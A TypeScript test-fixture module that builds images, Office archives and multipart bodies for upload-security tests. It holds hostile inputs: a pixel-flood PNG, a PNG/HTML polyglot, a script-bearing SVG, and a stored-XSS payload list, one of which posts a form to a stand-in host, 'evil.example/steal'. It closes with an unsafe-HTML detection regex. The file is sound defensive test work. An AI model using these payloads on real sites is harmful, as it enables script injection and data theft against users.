// Files and request bodies for the trust-center tests (unit tests here and tests/integration):
// images built byte by byte or with sharp, Office archives built with yazl, multipart bodies.
import { crc32 } from 'node:zlib'
import sharp from 'sharp'
import { ZipFile } from 'yazl'

/** A real PNG of the given size, one colour. */
export function realPng(width = 64, height = 32, colour = '#0a66c2'): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: colour } })
    .png()
    .toBuffer()
}

export function realJpeg(width = 64, height = 32, exifCopyright?: string): Promise<Buffer> {
  const img = sharp({ create: { width, height, channels: 3, background: '#336699' } }).jpeg()
  return (exifCopyright ? img.withExif({ IFD0: { Copyright: exifCopyright } }) : img).toBuffer()
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const out = Buffer.alloc(8 + data.length + 4)
  out.writeUInt32BE(data.length, 0)
  body.copy(out, 4)
  out.writeUInt32BE(crc32(body) >>> 0, 8 + data.length)
  return out
}

/** A valid 1×1 PNG whose IHDR declares another size (a "pixel flood" header, correct CRC). */
export async function pngDeclaring(width: number, height: number): Promise<Buffer> {
  const png = await realPng(1, 1)
  const ihdr = Buffer.from(png.subarray(16, 29)) // IHDR data: width, height, depth, colour, ...
  ihdr.writeUInt32BE(width, 0)
  ihdr.writeUInt32BE(height, 4)
  return Buffer.concat([png.subarray(0, 8), chunk('IHDR', ihdr), png.subarray(33)])
}

/** A PNG that is also an HTML page: markup after IEND (and in a text chunk), which browsers sniffing HTML would run. */
export async function pngHtmlPolyglot(): Promise<Buffer> {
  const png = await realPng(8, 8)
  const html = Buffer.from('<html><body><script>alert(document.domain)</script></body></html>')
  const iend = png.length - 12
  return Buffer.concat([png.subarray(0, iend), chunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), html])), png.subarray(iend), html])
}

export const svgAsPng = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>',
)
export const gif1x1 = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')

/** A minimal Office Open XML archive of the given kind (the parts a reader looks for first). */
export function officeFile(kind: 'docx' | 'pptx' | 'xlsx' | 'docm' | 'plainzip'): Promise<Buffer> {
  const zip = new ZipFile()
  const add = (name: string, text: string) => zip.addBuffer(Buffer.from(text), name)
  if (kind !== 'plainzip') add('[Content_Types].xml', '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
  if (kind === 'docx' || kind === 'docm')
    add('word/document.xml', '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>')
  if (kind === 'docm') zip.addBuffer(Buffer.from('macro'), 'word/vbaProject.bin')
  if (kind === 'pptx')
    add('ppt/presentation.xml', '<?xml version="1.0"?><p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>')
  if (kind === 'xlsx') add('xl/workbook.xml', '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>')
  if (kind === 'plainzip') add('notes.txt', 'hello')
  zip.end()
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = []
    zip.outputStream.on('data', (c: Buffer) => chunks.push(c))
    zip.outputStream.on('error', reject)
    zip.outputStream.on('end', () => resolve(Buffer.concat(chunks)))
  })
}

export type Part = { name: string; value: string } | { name: string; filename: string; content: Buffer; type?: string }

/** A multipart/form-data body and its content type. */
export function multipart(parts: Part[]): { payload: Buffer; contentType: string } {
  const boundary = `----tc${Math.random().toString(16).slice(2)}`
  const chunks: Buffer[] = []
  for (const p of parts) {
    const head =
      'filename' in p
        ? `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"; filename="${p.filename}"\r\nContent-Type: ${p.type ?? 'application/octet-stream'}\r\n\r\n`
        : `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"\r\n\r\n`
    chunks.push(Buffer.from(head), 'filename' in p ? p.content : Buffer.from(p.value), Buffer.from('\r\n'))
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`))
  return { payload: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` }
}

/** The stored-XSS set of security.md B16, plus a few classics. */
export const xssPayloads = [
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">click</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form action="https://evil.example/steal"><input name=x><button>go</button></form>',
  '<p onclick="alert(1)">hi</p><script>alert(2)</script>',
  '<a href=" JaVaScRiPt:alert(1)">x</a><a href="data:text/html,<script>alert(1)</script>">y</a>',
]

/** What sanitised HTML must never contain. */
export const unsafeHtml = /<script|\son\w+\s*=|javascript:|<iframe|<form|srcdoc|<svg|<math|<style|data:text/i
